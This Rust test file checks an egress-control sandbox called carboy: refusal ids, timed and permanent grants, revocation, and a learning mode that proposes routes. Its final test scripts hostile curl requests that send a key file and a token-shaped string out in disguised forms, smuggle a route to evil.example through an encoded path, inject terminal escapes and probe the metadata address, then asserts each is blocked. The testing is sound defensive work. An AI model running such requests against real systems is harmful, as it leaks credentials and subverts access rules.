//! Seeing and allowing: every refusal has an id that can be looked up, and what it stands for can be opened, for good or
//! for a while; a run that learns opens nothing and proposes what it would have needed.

use std::io::{BufRead, BufReader};
use std::process::{Output, Stdio};
use std::time::{Duration, Instant};

use carboy_sim::probe::{Order, Report};
use serde_json::Value;

use crate::terminal::Screen;
use crate::waiting::within;
use crate::world::{Agent, CANARY, Person, REAL_KEY, Ran, World, reason};
use crate::{Case, case, case_with};

/// Longest wait for something that happens by itself.
const HAPPEN_WAIT_MAX: Duration = Duration::from_secs(15);
/// One page is open, and the model's host, whose key this run then holds.
const NARROW: &str = "\
egress:
  routes:
    # the page
    - host: notes.example
      matches: [{paths: [/page], methods: [GET]}]
    - host: api.anthropic.com
      auth_scheme: Bearer
      token_env: ANTHROPIC_API_KEY
";
const ECHO: &str = "https://notes.example/echo";

pub fn cases() -> Vec<Case> {
    vec![
        case("H7 a refusal is explained by the id that its client was told", explained),
        case("E2 a refusal is opened for a while, survives a reload, expires, and is in the log", for_a_while),
        case("E2 a grant that is revoked closes the stream that it had opened", revoked),
        case("a refusal is opened for good, as narrow as it was, and for the next run too", for_good),
        case_with("with a piped standard output allow asks at the terminal all the same", &["tmux"], asked_when_piped),
        case_with("at a terminal allow asks, and only a yes opens", &["tmux"], asked),
        case("names, addresses and connections have ids as well, and repeats keep theirs", other_ids),
        case("what nothing should open is opened by nothing", never),
        case_with("a run that learns dials nothing new, and what it proposes lets the next one work", &["curl"], learn),
        case_with("a program that wants a door gets none proposed", &["curl"], learn_from_the_hostile),
    ]
}

fn carboy(world: &World, arguments: &[&str]) -> Output {
    world.carboy(arguments).output().unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).unwrap()
}

/// Its standard output, when it did well.
fn said(world: &World, arguments: &[&str]) -> String {
    let output = carboy(world, arguments);
    assert!(output.status.success(), "{arguments:?}: {}", text(&output.stderr));
    text(&output.stdout)
}

/// Exit code and standard error.
fn refused(world: &World, arguments: &[&str]) -> (Option<i32>, String) {
    let output = carboy(world, arguments);
    (output.status.code(), text(&output.stderr))
}

fn explain(world: &World, id: &str) -> Value {
    serde_json::from_str(&said(world, &["explain", id, "--json"])).unwrap()
}

fn get(agent: &mut Agent<'_>, url: &str) -> Report {
    agent.http("GET", url, &[], b"")
}

/// The id that a refused client was told.
fn id(report: &Report) -> String {
    report.headers.get("x-carboy-refusal").unwrap_or_else(|| panic!("no refusal: {report:?}")).clone()
}

fn actions(world: &World, action: &str) -> usize {
    world.log().iter().filter(|entry| entry.text("action") == Some(action)).count()
}

fn explained(person: Person) {
    let world = World::new(person);
    world.bottle(NARROW);
    let mut agent = world.agent();
    let report = agent.http("DELETE", "https://notes.example/page/7?token=secret", &[], b"");
    let id = id(&report);
    assert!(id.starts_with("x-") && id.len() == 8, "{id}");
    // In every place where somebody may meet it.
    assert!(report.body.contains(&format!("carboy explain {id}")), "{}", report.body);
    let told = explain(&world, &id);
    assert_eq!(told["refusal"]["asked"]["path"], "/page/7", "{told}");
    assert_eq!(told["refusal"]["reason"], "request_not_allowed");
    assert_eq!(told["refusal"]["misfit"], serde_json::json!(["method"]));
    assert_eq!(told["now"]["nearest"]["misfit"][0], "the method (the route has GET)");
    assert_eq!(told["allow"]["by"][0]["command"], format!("carboy allow {id}"));
    assert!(!told.to_string().contains("token=secret"), "a query is in no log");
    let page = said(&world, &["explain", &id.to_uppercase()]);
    for part in ["DELETE /page/7 on notes.example port 443", "docs/refusals.md#request_not_allowed", "--for 1h"] {
        assert!(page.contains(part), "{part} is not in {page}");
    }
    assert!(said(&world, &["logs", "--refused"]).contains(&format!("refusal={id}")));
    assert!(said(&world, &["audit", "query", "--reason", "request_not_allowed", "--json"]).contains(&id));
    let ran = agent.finish().expect_code(0);
    assert_eq!(ran.summary["refusals"][0]["examples"][0]["id"], id.as_str());
    assert!(ran.stderr.contains(&format!("carboy allow {id}")), "{}", ran.stderr);
    // What is no id is told how one looks; one that nobody was given is not found.
    for wrong in ["nonsense", "x-12345", "fixer", "x-uuuuuu"] {
        let (code, stderr) = refused(&world, &["explain", wrong]);
        assert!(code == Some(2) && stderr.contains("x-4k7m2q"), "{wrong}: {stderr}");
    }
    let nobodys = if id == "x-000000" { "x-000001" } else { "x-000000" };
    assert_eq!(refused(&world, &["explain", nobodys]).0, Some(1));
}

fn for_a_while(person: Person) {
    let world = World::new(person);
    world.bottle(NARROW);
    let file = || std::fs::read_to_string(world.dir.join("home/bottles/test.md")).unwrap();
    let before = file();
    let mut agent = world.agent();
    let id = id(&get(&mut agent, ECHO));
    let (code, stderr) = refused(&world, &["allow", &id, "--for", "1h"]);
    assert!(code == Some(77) && stderr.contains("there is no terminal to ask on"), "{stderr}");
    assert_eq!(reason(&get(&mut agent, ECHO)), Some("request_not_allowed"), "nobody agreed to it");
    assert!(said(&world, &["explain", &id]).contains("--for 1h"), "a run lives");
    let grant = said(&world, &["allow", &id, "--for", "1h", "--yes"]);
    let grant = grant.trim();
    assert!(grant.starts_with("g-"), "{grant}");
    assert_eq!(get(&mut agent, ECHO).status, Some(200));
    // Exactly what was refused, and without the credential of another route.
    assert_eq!(reason(&agent.http("POST", ECHO, &[], b"x")), Some("request_not_allowed"));
    assert_eq!(reason(&get(&mut agent, "https://notes.example/echoes")), Some("request_not_allowed"));
    let listed: Value = serde_json::from_str(&said(&world, &["allow", "--list", "--json"])).unwrap();
    assert_eq!((&listed[0]["grant"]["id"], &listed[0]["grant"]["refusal"]), (&grant.into(), &id.as_str().into()));
    assert!(explain(&world, &id)["now"]["route"].as_str().unwrap().starts_with(grant), "it would be allowed now");
    assert_eq!(file(), before, "nothing is written");
    // The file is read anew, and what it says now holds beside the grant.
    world.bottle(&NARROW.replace("paths: [/page]", "paths: [/sink]"));
    within(HAPPEN_WAIT_MAX, "the changed file", || {
        (reason(&get(&mut agent, "https://notes.example/page/clean")) == Some("request_not_allowed")).then_some(())
    });
    assert_eq!(get(&mut agent, ECHO).status, Some(200));
    said(&world, &["allow", "--revoke", &id]);
    assert_eq!(reason(&get(&mut agent, ECHO)), Some("request_not_allowed"));
    assert_eq!(refused(&world, &["allow", "--revoke", grant]).0, Some(1), "it is gone");
    // By itself, in time.
    said(&world, &["allow", "notes.example", "-b", "test", "--path", "/echo", "--for", "2s", "-y"]);
    assert_eq!(get(&mut agent, ECHO).status, Some(200));
    within(HAPPEN_WAIT_MAX, "it expires", || {
        (reason(&get(&mut agent, ECHO)) == Some("request_not_allowed")).then_some(())
    });
    assert_eq!(said(&world, &["allow", "--list"]), "");
    for (action, count) in [("grant", 2), ("revoke_grant", 1), ("expire_grant", 1)] {
        assert_eq!(actions(&world, action), count, "{action}");
    }
    agent.finish().expect_code(0);
    // For living runs, and within bounds; where none lives it is not offered.
    assert!(!said(&world, &["explain", &id]).contains("--for 1h"));
    let (code, stderr) = refused(&world, &["allow", &id, "--for", "1h"]);
    assert!(code == Some(1) && stderr.contains("leave `--for` out"), "{stderr}");
    for wrong in ["8d", "0s", "x", "1"] {
        assert_eq!(refused(&world, &["allow", &id, "--for", wrong]).0, Some(2), "{wrong}");
    }
}

fn revoked(person: Person) {
    let world = World::new(person);
    world.bottle(NARROW);
    let slow = "https://notes.example/slow?ms=60000";
    let script = format!("echo ready; read go; curl -s -o /dev/null {slow}; echo curl $?; read go");
    let mut command = world.carboy(&["run", "-q", "--bottle", "test", "--", "sh", "-c", &script]);
    let mut child = command.stdin(Stdio::piped()).spawn().unwrap();
    let (mut orders, mut out) = (child.stdin.take().unwrap(), BufReader::new(child.stdout.take().unwrap()));
    let mut line = || {
        let mut line = String::new();
        out.read_line(&mut line).unwrap();
        line
    };
    assert_eq!(line(), "ready\n");
    let grant = said(&world, &["allow", "notes.example", "-b", "test", "--path", "/slow", "--for", "10m", "-y"]);
    let connections = world.provider.connections();
    std::io::Write::write_all(&mut orders, b"go\n").unwrap();
    within(HAPPEN_WAIT_MAX, "the request is outside", || (world.provider.connections() > connections).then_some(()));
    within(HAPPEN_WAIT_MAX, "its intent is in the log", || {
        world.log().iter().any(|e| e.detail("path").and_then(Value::as_str) == Some("/slow")).then_some(())
    });
    let start = Instant::now();
    said(&world, &["allow", "--revoke", grant.trim()]);
    let ended = line();
    assert!(ended.starts_with("curl ") && ended != "curl 0\n", "{ended}");
    assert!(start.elapsed() < HAPPEN_WAIT_MAX, "it was closed, and did not end by itself");
    drop(orders);
    child.wait().unwrap();
}

fn for_good(person: Person) {
    let world = World::new(person);
    world.bottle(NARROW);
    let mut agent = world.agent();
    let refusal = id(&agent.http("POST", "https://notes.example/sink", &[], b"a note"));
    agent.finish().expect_code(0);
    // The run is over; the id is still good.
    let dry = said(&world, &["allow", &refusal, "--dry-run"]);
    assert!(dry.contains("+    - host: \"notes.example\"\n") && dry.contains("@@ "), "{dry}");
    // A script says that it means it; else nothing is opened, for good or for a while.
    let before = std::fs::read_to_string(world.dir.join("home/bottles/test.md")).unwrap();
    let unasked = carboy(&world, &["allow", &refusal]);
    assert_eq!((unasked.status.code(), text(&unasked.stdout)), (Some(77), dry), "{unasked:?}");
    assert!(text(&unasked.stderr).contains("there is no terminal to ask on; add `--yes`"), "{unasked:?}");
    assert_eq!(std::fs::read_to_string(world.dir.join("home/bottles/test.md")).unwrap(), before);
    assert_eq!(actions(&world, "allow"), 0);
    let output = carboy(&world, &["allow", &refusal, "--save", "--yes"]);
    assert!(text(&output.stderr).contains("opens POST /sink and below on notes.example:443"), "{output:?}");
    let file = std::fs::read_to_string(world.dir.join("home/bottles/test.md")).unwrap();
    assert!(file.contains("# the page") && file.contains("value: \"/sink\""), "{file}");
    let mut agent = world.agent();
    assert_eq!(agent.http("POST", "https://notes.example/sink", &[], b"a note").status, Some(200));
    assert_eq!(reason(&agent.http("PUT", "https://notes.example/sink", &[], b"x")), Some("request_not_allowed"));
    assert!(explain(&world, &refusal)["now"]["route"].as_str().unwrap().contains("notes.example"));
    // Said again it changes nothing; said wider it is as wide as was said.
    said(&world, &["allow", &refusal]);
    assert_eq!(std::fs::read_to_string(world.dir.join("home/bottles/test.md")).unwrap(), file);
    for wrong in [["--method", "GET POST"], ["--path", "sink"], ["--path", "/a/../b"], ["--port", "0"]] {
        let (code, stderr) = refused(&world, &[&["allow", &refusal][..], &wrong].concat());
        assert!(code == Some(2) && stderr.contains(wrong[0]) && !stderr.contains("test.md"), "{stderr}");
    }
    said(&world, &["allow", &refusal, "--method", "put,PATCH", "--yes"]);
    within(HAPPEN_WAIT_MAX, "the wider route", || {
        (agent.http("PUT", "https://notes.example/sink", &[], b"x").status == Some(200)).then_some(())
    });
    agent.finish().expect_code(0);
}

fn asked(person: Person) {
    let allow = ["allow", "notes.example", "-b", "test", "--path", "/echo", "--method", "GET"];
    for (answer, end, opened) in [("n", "nothing was changed", false), ("y", "now allows notes.example", true)] {
        let world = World::new(person);
        world.bottle(NARROW);
        let screen = Screen::open(&world, &allow);
        let shown = screen.see("Open it? [y/N]");
        assert!(shown.contains("opens GET /echo and below") && shown.contains("+    - host:"), "{shown}");
        screen.line(answer);
        screen.see(end);
        let file = std::fs::read_to_string(world.dir.join("home/bottles/test.md")).unwrap();
        assert_eq!(file.contains("value: \"/echo\""), opened, "{file}");
    }
}

fn asked_when_piped(person: Person) {
    let world = World::new(person);
    world.bottle(NARROW);
    let screen =
        Screen::open_in(&world, &["allow", "notes.example", "-b", "test", "--path", "/echo"], " > change.diff");
    screen.see("Open it? [y/N]");
    screen.line("y");
    screen.see("over with 0");
    assert!(std::fs::read_to_string(world.project.join("change.diff")).unwrap().contains("+    - host:"));
    assert!(std::fs::read_to_string(world.dir.join("home/bottles/test.md")).unwrap().contains("value: \"/echo\""));
}

fn other_ids(person: Person) {
    let world = World::new(person);
    world.bottle(NARROW);
    let mut agent = world.agent();
    for _ in 0..3 {
        get(&mut agent, "https://collector.example/");
    }
    let server = "198.18.0.53:53".parse().unwrap();
    agent.order(&Order::Dns { name: "other.example".into(), server });
    get(&mut agent, "https://169.254.169.254/latest");
    let ran = agent.finish().expect_code(0);
    let ids: Vec<(String, String)> = ran
        .entries
        .iter()
        .filter_map(|e| Some((e.detail("reason")?.as_str()?.into(), e.detail("refusal")?.as_str()?.into())))
        .collect();
    let of = |code: &str| ids.iter().filter(|(reason, _)| reason == code).map(|(_, id)| id).collect::<Vec<_>>();
    // Three look-ups, one entry; its repeats name it.
    let names = of("name_not_allowed");
    assert_eq!(names.len(), 2, "{ids:?}");
    let repeats = ran.entries.iter().find(|e| e.text("action") == Some("repeats")).expect("repeats");
    assert_eq!(repeats.detail("of").and_then(Value::as_str), Some(names[0].as_str()));
    let told = explain(&world, names[0]);
    assert_eq!(
        (&told["refusal"]["asked"]["host"], &told["refusal"]["asked"]["kind"]),
        (&"collector.example".into(), &"name".into())
    );
    assert_eq!(
        told["allow"]["by"][0]["opens"],
        "everything on collector.example (ports 443 and 80), for good, in the bottle's file"
    );
    let examples = |code: &str| {
        let all = ran.summary["refusals"].as_array().unwrap();
        let one = all.iter().find(|r| r["reason"] == code).unwrap_or_else(|| panic!("{code}: {all:?}"));
        one["examples"].clone()
    };
    assert_eq!(examples("name_not_allowed")[0]["id"], names[0].as_str(), "the first of those that were folded");
    let inside = of("address_not_allowed")[0];
    assert_eq!(examples("address_not_allowed")[0]["allow"], Value::Null);
    assert!(explain(&world, inside)["allow"]["nothing"].as_str().unwrap().contains("metadata"));
    assert_eq!(refused(&world, &["allow", inside]).0, Some(77));
}

fn never(person: Person) {
    let world = World::new(person);
    world.bottle(&NARROW.replace("matches: [{paths: [/page], methods: [GET]}]", "ports: [443]"));
    let mut agent = world.agent();
    let leak = id(&agent.http("POST", "https://notes.example/sink", &[], format!("key={REAL_KEY}").as_bytes()));
    let page = said(&world, &["explain", &leak]);
    assert!(page.contains("nothing should open that") && page.contains("secret_known"), "{page}");
    assert!(!page.contains(REAL_KEY));
    for how in [vec!["allow", &leak], vec!["allow", &leak, "--for", "1h"], vec!["allow", &leak, "--path", "/"]] {
        let (code, stderr) = refused(&world, &how);
        assert!(code == Some(77) && stderr.contains("secret"), "{stderr}");
    }
    // A grant is held to what a file is held to.
    for host in ["169.254.169.254", "localhost", "x.carboy.internal"] {
        let (code, stderr) = refused(&world, &["allow", host, "-b", "test", "--for", "1h", "-y"]);
        assert!(code == Some(77) && stderr.contains("route"), "{host}: {stderr}");
    }
    let (code, stderr) = refused(&world, &["allow", "10.0.0.1", "-b", "test", "--for", "1h", "-y"]);
    assert!(code == Some(77) && stderr.contains("private"), "{stderr}");
    said(&world, &["allow", "10.0.0.1", "-b", "test", "--for", "1h", "--private", "-y"]);
    // Nor does a bottle's name lead out of the directory of bottles.
    assert_eq!(refused(&world, &["allow", "a.example", "-b", "../../project/evil"]).0, Some(78));
    agent.finish().expect_code(0);
}

/// The shell script of a program that looks around, with what each request gave.
fn curls(lines: &[String]) -> String {
    let one = |line: &String| format!("curl -s -o /dev/null -w '%{{http_code}}\\n' {line}\n");
    lines.iter().map(one).collect()
}

fn run_learning(world: &World, script: &str) -> Ran {
    let ran = world.run_with(&["--learn"], &["sh", "-c", script]);
    let start = ran.entries.iter().find(|e| e.text("action") == Some("start")).unwrap();
    assert_eq!(start.detail("learn"), Some(&Value::Bool(true)));
    ran
}

fn learn(person: Person) {
    let world = World::new(person);
    world.bottle("egress:\n  routes:\n    # nothing yet\n    - host: plain.example\n");
    let ask = [
        "https://notes.example/page/clean".to_owned(),
        "https://notes.example/bytes/1024".to_owned(),
        "https://notes.example/bytes/2048".to_owned(),
        "-d x https://notes.example/sink".to_owned(),
        "'https://git.example/team/repo.git/info/refs?service=git-upload-pack'".to_owned(),
        "https://a.wild.example/page/clean".to_owned(),
    ];
    let ran = run_learning(&world, &curls(&ask));
    assert_eq!(ran.stdout, "403\n".repeat(6), "{}", ran.stderr);
    assert_eq!((world.provider.connections(), world.provider.requests()), (0, 0), "nothing was dialled");
    let proposed = &ran.summary["proposed"];
    assert_eq!(proposed["routes"], 3, "{proposed}");
    let run = ran.summary["run"].as_str().unwrap();
    let file = proposed["file"].as_str().unwrap();
    assert!(file.ends_with(&format!("state/test/runs/{run}/proposal.yml")), "{file}");
    // The diff that the summary shows is the one that is applied.
    for part in ["+    - host: \"notes.example\"", "     # nothing yet", &format!("carboy allow {run}")] {
        assert!(ran.stderr.contains(part), "{part} is not in {}", ran.stderr);
    }
    let dry = said(&world, &["allow", run, "--dry-run"]);
    assert!(ran.stderr.ends_with(&dry), "{dry}\nis not what the summary shows:\n{}", ran.stderr);
    said(&world, &["allow", run, "--yes"]);
    let bottle = std::fs::read_to_string(world.dir.join("home/bottles/test.md")).unwrap();
    assert!(bottle.contains("# nothing yet") && bottle.contains("git: {fetch: true}"), "{bottle}");
    let ran = world.sh(&curls(&ask)).expect_code(0);
    let codes: Vec<&str> = ran.stdout.lines().collect();
    assert_eq!(codes[..4], ["200"; 4], "{}\n{bottle}", ran.stderr);
    assert_ne!(codes[4], "403", "git is let through to its host");
    assert_eq!(codes[5], "200");
    // No wider than it has to be.
    let more = curls(&["https://notes.example/echo".to_owned(), "-X DELETE https://notes.example/sink".to_owned()]);
    assert_eq!(world.sh(&more).stdout, "403\n403\n");
    // Again there is nothing left to say.
    said(&world, &["allow", run]);
    assert_eq!(std::fs::read_to_string(world.dir.join("home/bottles/test.md")).unwrap(), bottle);
}

fn learn_from_the_hostile(person: Person) {
    let world = World::new(person);
    world.bottle("egress:\n  routes:\n    - host: api.anthropic.com\n      auth_scheme: Bearer\n      token_env: ANTHROPIC_API_KEY\n");
    // What the program would find out elsewhere: the key that this run holds, and something in the shape of a token.
    let token = format!("ghp_{}", "a1B2c3D4e5F6g7H8i9J0".repeat(2).split_at(36).0);
    world.write("project/key", REAL_KEY);
    let padding = "head -c 300000 /dev/zero | tr '\\0' x > pad; cat pad key > padded; gzip -kf key\n";
    let ask = [
        // Innocent first, then the leak: in a body, behind padding, packed, in a path.
        "https://notes.example/innocent".to_owned(),
        "--data-binary @key https://notes.example/innocent".to_owned(),
        "https://git.example/fine".to_owned(),
        "--data-binary @padded https://git.example/collect".to_owned(),
        "https://a.wild.example/fine".to_owned(),
        "-H 'content-encoding: gzip' --data-binary @key.gz https://a.wild.example/x".to_owned(),
        "https://plain.example/fine".to_owned(),
        format!("https://plain.example/{token}/x"),
        // Text that would be more than text.
        "-g 'https://quotes.example/a%22}]%0A%20%20%20%20-%20host:%20evil.example'".to_owned(),
        "-g --path-as-is \"https://quotes.example/x'y{z}/*&!\"".to_owned(),
        "-X 'EVIL' https://quotes.example/method".to_owned(),
        "-g \"https://quotes.example/$(printf '\\033[2Jx')\"".to_owned(),
        "https://169.254.169.254/latest/meta-data/".to_owned(),
        "https://api.openai.com/v1/models".to_owned(),
        "https://telemetry.example/collect".to_owned(),
    ];
    let ran = run_learning(&world, &(padding.to_owned() + &curls(&ask)));
    assert!(!ran.stdout.contains("200"), "{}", ran.stdout);
    assert_eq!(world.provider.connections(), 0, "nothing was dialled");
    let proposed = &ran.summary["proposed"];
    let text = proposed["file"].as_str().map(|file| std::fs::read_to_string(file).unwrap()).unwrap_or_default();
    for host in ["notes.example", "git.example", "a.wild.example", "plain.example", "169.254", "openai", "telemetry"] {
        assert!(!text.lines().any(|line| !line.starts_with('#') && line.contains(host)), "{host} is in {text}");
        assert!(proposed["remarks"].to_string().contains(host), "{host} is not told: {proposed}");
    }
    // Nor is a leak opened by its id.
    let leaks = ran.entries.iter().filter(|e| e.detail("findings").is_some());
    let leaks: Vec<&str> = leaks.filter_map(|e| e.detail("refusal")?.as_str()).collect();
    assert_eq!(leaks.len(), 4, "{:#?}", ran.entries);
    for leak in leaks {
        assert_eq!(refused(&world, &["allow", leak]).0, Some(77), "{leak}");
        assert!(!ran.stderr.contains(&format!("carboy allow {leak}")), "{}", ran.stderr);
    }
    for hidden in [REAL_KEY, &token, "evil.example", CANARY] {
        assert!(!text.contains(hidden) && !ran.stderr.contains(hidden), "{hidden}");
    }
    let plain = |c: char| c == '\n' || c == '×' || (c.is_ascii() && !c.is_ascii_control());
    assert!(text.chars().all(plain), "{text:?}");
    assert!(!ran.stderr.contains('\u{1b}'), "{}", ran.stderr);
    world.assert_nothing_escaped();
}
